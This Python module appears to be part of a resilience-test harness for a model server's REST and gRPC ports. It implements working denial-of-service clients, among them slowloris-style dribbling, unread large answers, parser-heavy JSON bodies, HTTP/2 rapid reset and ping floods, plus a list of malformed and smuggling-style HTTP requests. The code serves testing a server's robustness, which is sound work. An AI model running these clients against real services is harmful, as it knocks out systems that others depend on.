"""Clients that a server should survive: each attack is a coroutine that many of them repeat.

`run` drives one attack from a process of its own, so that the attackers share no interpreter with
the client that measures. The attackers are cheap: requests are encoded once, and every one of them
pauses between repetitions.
"""

import asyncio
import collections
import contextlib
import functools
import itertools
import multiprocessing.connection
import random
import re
import socket
import struct
import time
from collections.abc import Awaitable, Callable
from dataclasses import dataclass

from tools import http2
from tools.serve_process import raise_descriptor_limit
from tools.serve_requests import (
    HEALTH_WATCH_METHOD,
    PREDICT_METHOD,
    http_request,
    post_head,
    predict_body,
)

BODY_BYTES = (4 << 20) - 1024
LARGE_ROWS = 1024
SMALL_RECEIVE_BUFFER = 4096
PIPELINED = 100
STREAMS = 10
PAUSE = 0.5


@dataclass(frozen=True)
class Target:
    """The server under attack, and the requests that only its model or TensorFlow can make.

    Attributes:
      host: address of the server.
      rest_port: port of the REST API.
      grpc_port: port of the gRPC API.
      model: name of the model.
      latent_dim: length of a row of `from_latent`.
      small_predict: a serialized PredictRequest of one row.
      large_predict: a serialized PredictRequest of `LARGE_ROWS` rows of pixels.
    """

    host: str
    rest_port: int
    grpc_port: int
    model: str
    latent_dim: int
    small_predict: bytes
    large_predict: bytes

    @property
    def predict(self) -> str:
        """Path of the model's `:predict`."""
        return f"/v1/models/{self.model}:predict"

    @property
    def rest(self) -> str:
        """Host and port of the REST API."""
        return f"{self.host}:{self.rest_port}"

    @property
    def grpc(self) -> str:
        """Host and port of the gRPC API."""
        return f"{self.host}:{self.grpc_port}"

    def post(self, body: bytes) -> bytes:
        """Encodes a `:predict` request."""
        return http_request("POST", self.predict, self.rest, body)


class Attacker:
    """One client: opens connections, sends, and counts what becomes of them."""

    def __init__(self, target: Target, number: int, tally: collections.Counter[str]) -> None:
        """Is the client `number` of those that share a tally."""
        self.target = target
        self.number = number
        self.tally = tally
        self._open: list[socket.socket] = []
        self._loop = asyncio.get_running_loop()

    async def rest(self, receive_buffer: int | None = None) -> socket.socket:
        """Opens a connection to the REST port."""
        return await self._connect(self.target.rest_port, receive_buffer)

    async def grpc(self, receive_buffer: int | None = None) -> socket.socket:
        """Opens a connection to the gRPC port."""
        return await self._connect(self.target.grpc_port, receive_buffer)

    async def _connect(self, port: int, receive_buffer: int | None) -> socket.socket:
        connection = socket.socket()
        self._open.append(connection)
        connection.setblocking(False)
        if receive_buffer:
            connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, receive_buffer)
        await self._loop.sock_connect(connection, (self.target.host, port))
        self.tally["opened"] += 1
        return connection

    async def send(self, connection: socket.socket, content: bytes) -> None:
        """Sends all of `content`."""
        await self._loop.sock_sendall(connection, content)

    async def dribble(self, connection: socket.socket, content: bytes) -> None:
        """Sends a byte a second, until the server closes the connection."""
        for byte in content:
            await self.send(connection, bytes([byte]))
            await asyncio.sleep(1)
            if is_closed(connection):
                break
        await self.read_answer(connection)

    async def read_answer(self, connection: socket.socket) -> None:
        """Reads one HTTP answer and counts its status, or that the connection ended instead."""
        received = b""
        while b"\r\n\r\n" not in received:
            chunk = await self._loop.sock_recv(connection, 65_536)
            if not chunk:
                self.tally["closed"] += 1
                return
            received += chunk
        head, _, body = received.partition(b"\r\n\r\n")
        self.tally[head[9:12].decode("latin-1")] += 1
        length = re.search(rb"content-length: *(\d+)", head, re.IGNORECASE)
        missing = int(length[1]) - len(body) if length else 0
        while missing > 0 and (chunk := await self._loop.sock_recv(connection, 65_536)):
            missing -= len(chunk)

    async def until_closed(self, connection: socket.socket) -> None:
        """Reads and drops all that comes, until the server closes the connection."""
        while await self._loop.sock_recv(connection, 65_536):
            pass
        self.tally["closed"] += 1

    async def hold(self, connection: socket.socket) -> None:
        """Reads nothing, until the server closes the connection."""
        while not is_closed(connection):
            await asyncio.sleep(1)
        self.tally["closed"] += 1

    def reset(self, connection: socket.socket) -> None:
        """Closes the connection with a TCP reset."""
        connection.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
        connection.close()

    def close(self) -> None:
        """Closes all connections."""
        for connection in self._open:
            connection.close()
        self._open.clear()


def is_closed(connection: socket.socket) -> bool:
    """Whether the peer has closed or reset the connection; leaves what it sent unread."""
    established = 1
    return connection.getsockopt(socket.IPPROTO_TCP, socket.TCP_INFO, 1)[0] != established


# Bodies that cost more to parse than to send.


def fill(unit: str) -> str:
    """Repeats `unit`, separated by commas, up to the longest body that is allowed."""
    return ",".join([unit] * (BODY_BYTES // (len(unit) + 1)))


def seeds_body(seeds: str) -> bytes:
    """Encodes a body whose seeds are this JSON."""
    return f'{{"inputs":{{"seed":[{seeds}],"digit":[1]}}}}'.encode()


def deepest_body() -> bytes:
    """Nests a list two million deep."""
    half = BODY_BYTES // 2
    return seeds_body("[" * half + "]" * half)


def deep_body() -> bytes:
    """Nests lists 900 deep, which JSON parsers accept."""
    return seeds_body(fill("[" * 900 + "1" + "]" * 900))


def wide_body() -> bytes:
    """Lists a million lists of one number."""
    return seeds_body(fill("[0]"))


def ragged_body() -> bytes:
    """Lists lists of different lengths and depths."""
    return seeds_body(fill("[0],[0,0],[[0]],[]"))


def flat_body() -> bytes:
    """Lists two million seeds."""
    return seeds_body(fill("0"))


def rows_body() -> bytes:
    """Lists 180,000 rows."""
    return ('{"instances":[' + fill('{"seed":1,"digit":1}') + "]}").encode()


def latent_body() -> bytes:
    """Gives one row of `from_latent` with 800,000 numbers."""
    inputs = '{"latent":[[' + fill("0.25") + ']],"digit":[1]}'
    return ('{"signature_name":"from_latent","inputs":' + inputs + "}").encode()


def keys_body() -> bytes:
    """Gives one row with 500,000 inputs."""
    count = BODY_BYTES // 16
    return (
        '{"instances":[{' + ",".join(f'"{n:08}":{n % 10}' for n in range(count)) + "}]}"
    ).encode()


BODIES = {
    "deepest": deepest_body,
    "deep": deep_body,
    "wide": wide_body,
    "ragged": ragged_body,
    "flat": flat_body,
    "rows": rows_body,
    "latent": latent_body,
    "keys": keys_body,
}


def send_body(name: str) -> Callable[[Attacker], Awaitable[None]]:
    """Makes an attack that posts one of `BODIES` again and again on a connection."""
    make = functools.cache(BODIES[name])

    async def attack(client: Attacker) -> None:
        request = client.target.post(make())
        connection = await client.rest()
        while not is_closed(connection):
            await client.send(connection, request)
            await client.read_answer(connection)

    attack.__doc__ = f"{BODIES[name].__doc__} Posts this again and again."
    return attack


# Clients that are slow, or do nothing.


async def idle(client: Attacker) -> None:
    """Opens a connection and sends nothing."""
    await client.hold(await client.rest())


async def slow_heads(client: Attacker) -> None:
    """Sends the head of a request, a byte a second."""
    head = b"GET /healthz HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Slow: " + b"x" * 3600
    await client.dribble(await client.rest(), head)


async def slow_bodies(client: Attacker) -> None:
    """Sends a head and one byte of the body, then a byte a second."""
    body = predict_body("serving_default", seed=[1], digit=[1]).ljust(3600)
    connection = await client.rest()
    await client.send(connection, post_head(client.target.predict, client.target.rest, len(body)))
    await client.dribble(connection, body)


async def held_bodies(client: Attacker) -> None:
    """Sends a body of 4 MiB but for its last byte, and holds it."""
    connection = await client.rest()
    head = post_head(client.target.predict, client.target.rest, BODY_BYTES)
    await client.send(connection, head + bytes(BODY_BYTES - 1))
    await client.read_answer(connection)


async def half_closed(client: Attacker) -> None:
    """Sends a request, closes its sending side, reads the answer and keeps the connection."""
    connection = await client.rest()
    body = predict_body("serving_default", seed=[1], digit=[1])
    await client.send(connection, client.target.post(body))
    connection.shutdown(socket.SHUT_WR)
    await client.read_answer(connection)
    await client.until_closed(connection)


async def half_closed_heads(client: Attacker) -> None:
    """Closes its sending side in the middle of a head, and keeps the connection."""
    connection = await client.rest()
    await client.send(connection, b"GET /healthz HTTP/1.1\r\nHost: ")
    connection.shutdown(socket.SHUT_WR)
    await client.until_closed(connection)


# Answers that nobody reads.


@functools.cache
def large_request(target: Target, signature: str) -> bytes:
    """Encodes a request of `LARGE_ROWS` rows."""
    if signature == "from_latent":
        row = [0.5] * target.latent_dim
        body = predict_body(signature, latent=[row] * LARGE_ROWS, digit=[1] * LARGE_ROWS)
    else:
        body = predict_body(signature, seed=[1] * LARGE_ROWS, digit=[1] * LARGE_ROWS)
    return target.post(body)


async def unread_latent(client: Attacker) -> None:
    """Asks for 1,024 rows of `from_latent` and reads nothing of the answer, some 10 MB."""
    connection = await client.rest(SMALL_RECEIVE_BUFFER)
    await client.send(connection, large_request(client.target, "from_latent"))
    await client.hold(connection)


async def unread_pixels(client: Attacker) -> None:
    """Asks for 1,024 rows of `generate_pixels` and reads nothing of the answer, some 2 MB."""
    connection = await client.rest(SMALL_RECEIVE_BUFFER)
    await client.send(connection, large_request(client.target, "generate_pixels"))
    await client.hold(connection)


async def slow_readers(client: Attacker) -> None:
    """Asks for 1,024 rows of `generate_pixels` and reads a byte a second."""
    connection = await client.rest(SMALL_RECEIVE_BUFFER)
    await client.send(connection, large_request(client.target, "generate_pixels"))
    while not is_closed(connection):
        await asyncio.get_running_loop().sock_recv(connection, 1)
        await asyncio.sleep(1)
    client.tally["closed"] += 1


async def pipelined_predicts(client: Attacker) -> None:
    """Sends a hundred one-row requests at once and reads nothing."""
    body = predict_body("generate_pixels", seed=[1], digit=[1])
    connection = await client.rest(SMALL_RECEIVE_BUFFER)
    await client.send(connection, client.target.post(body) * PIPELINED)
    await client.hold(connection)


async def pipelined_gets(client: Attacker) -> None:
    """Sends a hundred GETs at once, of the page and of documents, and reads nothing."""
    paths = ("/", "/about", "/metrics", "/openapi.json", f"/v1/models/{client.target.model}")
    connection = await client.rest(SMALL_RECEIVE_BUFFER)
    requests = b"".join(http_request("GET", path, client.target.rest) for path in paths)
    await client.send(connection, requests * (PIPELINED // len(paths)))
    await client.hold(connection)


# Clients that go away.


async def connect_and_reset(client: Attacker) -> None:
    """Sends half a request and resets the connection."""
    connection = await client.rest()
    await client.send(connection, post_head(client.target.predict, client.target.rest, 1000) + b"{")
    client.reset(connection)


async def abandoned(client: Attacker) -> None:
    """Sends a request of 1,024 rows and resets the connection before the answer."""
    connection = await client.rest()
    await client.send(connection, large_request(client.target, "generate_pixels"))
    await asyncio.sleep(0.1)
    client.reset(connection)


# HTTP that breaks the rules.


async def oversized(client: Attacker) -> None:
    """Declares a body of 100 MiB and sends it until the server objects."""
    connection = await client.rest()
    await client.send(connection, post_head(client.target.predict, client.target.rest, 100 << 20))
    for _ in range(100):
        await client.send(connection, bytes(1 << 16))
        if is_closed(connection):
            break
    await client.read_answer(connection)


async def endless_chunks(client: Attacker) -> None:
    """Sends a chunked body without an end until the server objects."""
    head = http_request(
        "POST",
        client.target.predict,
        client.target.rest,
        headers=["Content-Type: application/json", "Transfer-Encoding: chunked"],
    )
    connection = await client.rest()
    await client.send(connection, head)
    for _ in range(200):
        await client.send(connection, b"10000\r\n" + b" " * 0x10000 + b"\r\n")
        if is_closed(connection):
            break
    await client.read_answer(connection)


POST = b"POST /v1/models/mnist_gan:predict HTTP/1.1\r\nHost: 127.0.0.1\r\n"
GET = b"GET /healthz HTTP/1.1\r\n"
MALFORMED = (
    POST + b"Content-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
    POST + b"Transfer-Encoding: chunked\r\n\r\nxyz\r\n{}\r\n0\r\n\r\n",
    POST + b"Transfer-Encoding: chunked\r\n\r\n" + b"f" * 5000 + b"\r\n",
    POST + b"Transfer-Encoding: gzip, chunked\r\n\r\n0\r\n\r\n",
    POST + b"Content-Length: -1\r\n\r\n{}",
    POST + b"Content-Length: 99999999999999999999\r\n\r\n{}",
    POST + b"Content-Length: 2\r\nContent-Length: 3\r\n\r\n{} ",
    POST + b"Expect: 100-continue\r\nContent-Length: 2\r\n\r\n",
    GET + b"Host: 127.0.0.1\r\nX: " + b"x" * 200_000 + b"\r\n\r\n",
    GET + b"Host: 127.0.0.1\r\n" + b"X: x\r\n" * 20_000 + b"\r\n",
    GET + b"Host: 127.0.0.1\r\nX: a\r\n b\r\n\r\n",
    GET + b"\r\n",
    GET + b"Host: attacker.example\r\n\r\n",
    GET + b"Host: 127.0.0.1\r\nHost: attacker.example\r\n\r\n",
    GET + b"Host: 127.0.0.1\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\r\n",
    b"GET http://attacker.example/healthz HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n",
    b"GET /" + b"a" * 200_000 + b" HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n",
    b"GET /\0 HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n",
    b"GET /healthz\r\n\r\n",
    b"GET /healthz HTTP/9.9\r\nHost: 127.0.0.1\r\n\r\n",
    b"\r\n" * 50_000,
    b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + bytes(512),
    http2.client_start(),
    random.Random(0).randbytes(5000),
)


async def malformed_http(client: Attacker) -> None:
    """Sends, in turn, what breaks HTTP: lengths, chunks, heads, other protocols."""
    requests = itertools.islice(itertools.cycle(MALFORMED), client.number, None)
    for request in requests:
        connection = await client.rest()
        with contextlib.suppress(ConnectionError):
            await client.send(connection, request)
            connection.shutdown(socket.SHUT_WR)
            await client.read_answer(connection)
        connection.close()
        await asyncio.sleep(PAUSE)


# The gRPC port.


async def grpc_idle(client: Attacker) -> None:
    """Opens a TCP connection to the gRPC port and sends nothing."""
    await client.hold(await client.grpc())


async def grpc_idle_channels(client: Attacker) -> None:
    """Opens an HTTP/2 connection and calls nothing."""
    connection = await client.grpc()
    await client.send(connection, http2.client_start())
    await client.until_closed(connection)


async def grpc_no_preface(client: Attacker) -> None:
    """Sends, in turn, HTTP/1.1, TLS and noise to the gRPC port."""
    connection = await client.grpc()
    await client.send(connection, MALFORMED[client.number % len(MALFORMED)])
    await client.until_closed(connection)


async def grpc_open_streams(client: Attacker) -> None:
    """Opens calls whose message never comes."""
    calls = [
        http2.call_headers(2 * number + 1, PREDICT_METHOD, client.target.grpc)
        for number in range(STREAMS)
    ]
    connection = await client.grpc()
    await client.send(connection, http2.client_start() + b"".join(calls))
    await client.until_closed(connection)


async def grpc_slow_messages(client: Attacker) -> None:
    """Opens a call and sends its message, a byte a second."""
    content = http2.message(client.target.large_predict)
    connection = await client.grpc()
    start = http2.client_start() + http2.call_headers(1, PREDICT_METHOD, client.target.grpc)
    await client.send(connection, start)
    for byte in content:
        await client.send(connection, http2.frame(http2.DATA, 0, 1, bytes([byte])))
        await asyncio.sleep(1)
        if is_closed(connection):
            break
    client.tally["closed"] += 1


async def grpc_watches(client: Attacker) -> None:
    """Watches the health of the server, which is a stream that stays open."""
    watch = http2.call(1, HEALTH_WATCH_METHOD, client.target.grpc, b"")
    connection = await client.grpc()
    await client.send(connection, http2.client_start() + watch)
    await client.until_closed(connection)


async def grpc_unread(client: Attacker) -> None:
    """Calls Predict for 1,024 rows on ten streams with a wide window, and reads nothing."""
    await grpc_large_calls(client, http2.MAX_WINDOW)


async def grpc_small_window(client: Attacker) -> None:
    """Calls Predict for 1,024 rows on ten streams and grants a window of 64 KiB for the answers."""
    await grpc_large_calls(client, http2.DEFAULT_WINDOW)


async def grpc_large_calls(client: Attacker, window: int) -> None:
    """Calls Predict for 1,024 rows on ten streams and reads nothing."""
    calls = [
        http2.call(2 * number + 1, PREDICT_METHOD, client.target.grpc, client.target.large_predict)
        for number in range(STREAMS)
    ]
    connection = await client.grpc(SMALL_RECEIVE_BUFFER)
    await client.send(connection, http2.client_start(window) + b"".join(calls))
    await client.hold(connection)


async def grpc_oversized(client: Attacker) -> None:
    """Sends a message of 60 KiB that declares 4 GiB, and holds it."""
    connection = await client.grpc()
    start = http2.client_start() + http2.call_headers(1, PREDICT_METHOD, client.target.grpc)
    prefix = struct.pack(">BI", 0, 2**32 - 1)
    frames = [
        http2.frame(http2.DATA, 0, 1, prefix),
        *[http2.frame(http2.DATA, 0, 1, bytes(15_000))] * 4,
    ]
    await client.send(connection, start + b"".join(frames))
    await client.until_closed(connection)


async def grpc_rapid_reset(client: Attacker) -> None:
    """Calls Predict and cancels it at once, a hundred times in a burst."""
    connection = await client.grpc()
    await client.send(connection, http2.client_start())
    for first in range(0, 100_000, PIPELINED):
        burst = b"".join(
            http2.call(stream, PREDICT_METHOD, client.target.grpc, client.target.small_predict)
            + http2.reset(stream)
            for stream in range(2 * first + 1, 2 * (first + PIPELINED) + 1, 2)
        )
        await client.send(connection, burst)
        await asyncio.sleep(PAUSE)
        if is_closed(connection):
            break
    client.tally["closed"] += 1


async def grpc_connect_and_reset(client: Attacker) -> None:
    """Opens an HTTP/2 connection, calls Predict for 1,024 rows and resets the connection."""
    predict = http2.call(1, PREDICT_METHOD, client.target.grpc, client.target.large_predict)
    connection = await client.grpc()
    await client.send(connection, http2.client_start() + predict)
    await asyncio.sleep(0.1)
    client.reset(connection)


async def grpc_pings(client: Attacker) -> None:
    """Sends a hundred PING and SETTINGS frames in a burst, and reads nothing of their answers."""
    burst = http2.frame(http2.PING, 0, 0, bytes(8)) + http2.frame(http2.SETTINGS, 0, 0)
    connection = await client.grpc(SMALL_RECEIVE_BUFFER)
    await client.send(connection, http2.client_start())
    while not is_closed(connection):
        await client.send(connection, burst * (PIPELINED // 2))
        await asyncio.sleep(PAUSE)
    client.tally["closed"] += 1


BODY_CLIENTS = 8


@dataclass(frozen=True)
class Attack:
    """What each client of an attack repeats, and how many clients there are.

    Attributes:
      behave: coroutine that one client repeats.
      clients: number of clients; as many as the command line says if None.
    """

    behave: Callable[[Attacker], Awaitable[None]]
    clients: int | None = None

    @property
    def purpose(self) -> str:
        """What a client of this attack does, in a sentence."""
        return (self.behave.__doc__ or "").splitlines()[0]


ATTACKS = {
    **{f"body_{name}": Attack(send_body(name), BODY_CLIENTS) for name in BODIES},
    **{
        attack.__name__: Attack(attack)
        for attack in (
            idle,
            slow_heads,
            slow_bodies,
            held_bodies,
            half_closed,
            half_closed_heads,
            unread_latent,
            unread_pixels,
            slow_readers,
            pipelined_predicts,
            pipelined_gets,
            connect_and_reset,
            abandoned,
            oversized,
            endless_chunks,
            malformed_http,
            grpc_idle,
            grpc_idle_channels,
            grpc_no_preface,
            grpc_open_streams,
            grpc_slow_messages,
            grpc_watches,
            grpc_unread,
            grpc_small_window,
            grpc_oversized,
            grpc_rapid_reset,
            grpc_connect_and_reset,
            grpc_pings,
        )
    },
}


async def repeat(attack: Attack, client: Attacker) -> None:
    """Lets one client repeat its attack."""
    while True:
        try:
            await attack.behave(client)
        except OSError as error:
            client.tally[type(error).__name__] += 1
        finally:
            client.close()
        await asyncio.sleep(PAUSE)


async def attack_for(
    attack: Attack, target: Target, connections: int, seconds: float
) -> dict[str, int]:
    """Lets all clients of an attack repeat it for some seconds, and counts what became of it."""
    tally: collections.Counter[str] = collections.Counter()
    clients = [Attacker(target, number, tally) for number in range(attack.clients or connections)]
    tasks = [asyncio.create_task(repeat(attack, client)) for client in clients]
    done, running = await asyncio.wait(tasks, timeout=seconds)
    for task in running:
        task.cancel()
    await asyncio.gather(*running, return_exceptions=True)
    for task in done:
        task.result()
    return dict(tally)


def run(
    name: str,
    target: Target,
    connections: int,
    seconds: float,
    report: multiprocessing.connection.Connection,
) -> None:
    """Runs an attack in this process; sends its tally and the CPU seconds that it took."""
    raise_descriptor_limit()
    began = time.process_time()
    tally = asyncio.run(attack_for(ATTACKS[name], target, connections, seconds))
    report.send((tally, time.process_time() - began))
